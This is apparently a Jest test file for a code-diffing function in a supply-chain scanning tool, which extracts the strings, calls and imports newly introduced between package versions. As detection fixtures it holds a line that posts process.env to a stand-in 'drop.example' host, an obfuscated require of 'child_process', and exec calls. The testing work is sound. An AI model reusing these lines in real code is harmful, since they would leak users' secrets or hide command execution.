import { describe, expect, it } from '@jest/globals'
import { introducedFacts } from '../../../../src/rules/lib/code/index.js'
import { makeFiles } from '../../../helpers/factories.js'

const OLD_INDEX = [
  `const https = require('https')`,
  `const API = 'https://api.example/v1'`,
  `module.exports = function get(path) {`,
  `  return https.get(API + path)`,
  `}`
].join('\n')

describe('introducedFacts', () => {
  it('skips files whose content did not change', () => {
    const previousFiles = makeFiles({ 'index.js': OLD_INDEX, 'lib/a.js': `f('a')` })
    const files = makeFiles({ 'index.js': OLD_INDEX, 'lib/a.js': `f('a')\ng('b')` })
    const introduced = introducedFacts({ files, previousFiles })
    expect(introduced.map((entry) => entry.file)).toEqual(['lib/a.js'])
  })

  it('does not introduce what the old file already had; reports new facts at their line', () => {
    const next = OLD_INDEX.replace(
      `  return https.get(API + path)`,
      `  fetch('https://drop.example/c', { body: JSON.stringify(process.env) })\n  return https.get(API + path)`
    )
    const files = makeFiles({ 'index.js': next })
    const previousFiles = makeFiles({ 'index.js': OLD_INDEX })
    const [entry] = introducedFacts({ files, previousFiles })
    expect(entry?.isNewFile).toBe(false)
    expect(entry?.facts.strings).toEqual([{ value: 'https://drop.example/c', line: 4 }])
    expect(entry?.facts.members).toEqual([
      { path: 'JSON.stringify', assigned: false, line: 4 },
      { path: 'process.env', assigned: false, line: 4 }
    ])
    expect(entry?.facts.calls.map((call) => call.callee).sort()).toEqual([
      'JSON.stringify',
      'fetch'
    ])
    expect(entry?.facts.properties).toEqual([{ key: 'body', line: 4 }])
    expect(entry?.facts.imports).toEqual([])
    expect(entry?.facts.identifiers).toEqual(['fetch', 'JSON', 'process'])
  })

  it('introduces the extra occurrence of a repeated fact, at a line that is new', () => {
    const old = `run('x')\nrun('x')\n`
    const next = `run('x')\nother()\nrun('x')\nrun('x')\n`
    const [entry] = introducedFacts({
      files: makeFiles({ 'index.js': next }),
      previousFiles: makeFiles({ 'index.js': old })
    })
    expect(entry?.facts.strings).toEqual([{ value: 'x', line: 4 }])
    expect(entry?.facts.calls).toEqual([
      { callee: 'other', args: [], line: 2 },
      { callee: 'run', args: ['x'], line: 4 }
    ])
  })

  it('introduces an obfuscated spelling of a string the old file had plainly', () => {
    const [entry] = introducedFacts({
      files: makeFiles({ 'index.js': `require('chi' + 'ld_process')` }),
      previousFiles: makeFiles({ 'index.js': `require('child_process')` })
    })
    expect(entry?.facts.strings).toContainEqual({
      value: 'child_process',
      line: 1,
      decodedFrom: 'concatenation'
    })
    expect(entry?.facts.imports).toEqual([])
  })

  it('reports every fact of a new file', () => {
    const files = makeFiles({ 'index.js': OLD_INDEX, 'lib/new.js': `exec('id')` })
    const previousFiles = makeFiles({ 'index.js': OLD_INDEX })
    const introduced = introducedFacts({ files, previousFiles })
    expect(introduced).toHaveLength(1)
    expect(introduced[0]?.file).toBe('lib/new.js')
    expect(introduced[0]?.isNewFile).toBe(true)
    expect(introduced[0]?.facts.calls).toEqual([{ callee: 'exec', args: ['id'], line: 1 }])
  })

  it('counts every code file as new without a previous version, and skips non-code files', () => {
    const files = makeFiles({
      'index.js': OLD_INDEX,
      'README.md': `fetch('https://docs.example')`,
      'test/a.test.js': `exec('x')`
    })
    const introduced = introducedFacts({ files })
    expect(introduced.map((entry) => [entry.file, entry.isNewFile])).toEqual([['index.js', true]])
    expect(introduced[0]?.facts.imports).toEqual([{ specifier: 'https', line: 1 }])
  })

  it('returns nothing without files, and caches per pair of versions', () => {
    expect(introducedFacts({})).toEqual([])
    const files = makeFiles({ 'index.js': OLD_INDEX })
    const previousFiles = makeFiles({ 'index.js': '' })
    expect(introducedFacts({ files, previousFiles })).toBe(
      introducedFacts({ files, previousFiles })
    )
    expect(introducedFacts({ files })).not.toBe(introducedFacts({ files, previousFiles }))
  })
})
